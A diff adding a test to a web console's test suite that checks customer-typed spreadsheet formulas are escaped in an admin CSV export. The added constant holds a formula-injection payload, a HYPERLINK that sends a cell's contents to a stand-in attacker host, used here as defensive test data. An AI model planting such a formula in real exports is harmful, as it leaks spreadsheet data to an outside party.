@@ -295,3 +295,17 @@ async def test_only_admins_see_analytics(client, web_services):
     for path in ("", ".csv?table=rates", "/rates.png"):
         assert (await client.get(f"/console/admin/analytics{path}")).status == 403
     assert 'href="/console/admin/analytics"' not in await (await client.get("/console")).text()
+
+
+FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Refund")'
+
+
+async def test_a_formula_typed_by_a_customer_stays_text_in_the_csv(admin, web_services):
+    """Typed intent syntax names the intent after what the customer wrote; the admin's
+    spreadsheet must show it, not run it."""
+    log = ConversationLog(web_services.engine)
+    for event in said("evil", at(TUE, 11), f"/{FORMULA}", FORMULA, 0.01):
+        log.write(event)
+    rows = await csv_rows(admin, f"table=low_confidence&{WINDOW}")
+    assert rows[0]["intent"] == "'" + FORMULA
+    assert all(not v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())
